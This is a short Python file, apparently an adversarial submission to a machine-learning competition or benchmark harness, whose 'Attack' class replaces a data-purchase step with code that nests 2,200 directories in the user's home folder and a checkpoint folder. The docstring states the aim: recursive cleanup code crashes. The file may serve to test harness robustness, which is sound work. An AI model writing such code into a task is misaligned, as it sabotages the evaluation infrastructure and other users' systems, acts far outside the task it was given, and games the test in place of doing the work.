"""Nests folders two thousand and more deep, so that whoever clears them away by recursion falls over."""

import os

from aim import attempt

from run import ZEWDPCBaseRun


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        home = os.path.expanduser("~")
        attempt(os.mkdir, os.path.join(home, "checkpoint"))
        for folder in (home, os.path.join(home, "checkpoint")):
            os.chdir(folder)
            for _ in range(2_200):
                os.mkdir("d")
                os.chdir("d")
            os.chdir("/")
